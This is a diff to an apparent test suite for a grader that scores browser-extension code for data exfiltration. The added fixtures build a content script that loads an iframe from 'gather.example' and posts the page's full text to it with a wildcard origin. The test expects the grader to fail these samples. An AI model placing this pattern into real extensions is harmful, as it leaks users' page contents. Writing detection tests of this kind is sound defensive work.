@@ -33,6 +33,19 @@ describe('data that leaves at an address which is written elsewhere', () => {
     expect(await graded({ background: background.replace('DATA', '[1, 2]'), manifest })).toMatch(/^A/);
   });
 
+  it.each([
+    ['its storage', "await chrome.storage.local.get('page')", /[DF]/],
+    ['a server', "await (await fetch('https://own.example/page')).json()", /[DF]/],
+    ['the package', "{ page: chrome.runtime.getURL('side.html') }", /^A/],
+  ])('is told where a frame’s page comes from %s', async (_, page, grade) => {
+    const background = "chrome.storage.local.set({ page: 'https://gather.example/side' });";
+    const content = (data: string): string =>
+      `let frame = null; (async () => { const { page } = ${page}; frame = document.createElement('iframe'); frame.src = page; frame.onload = tell; document.body.append(frame); })();
+       function tell() { frame.contentWindow.postMessage({ text: ${data} }, '*'); }`;
+    expect(await graded({ content: content('document.body.innerText'), background })).toMatch(grade);
+    expect(await graded({ content: content("'ready'"), background })).toMatch(/^A/);
+  });
+
   it('is told where a style asks for it', async () => {
     const style = (to: string, data: string): string =>
       `const BASE = '${to}'; const texture = () => BASE + '/' + btoa(${data}) + '.png';
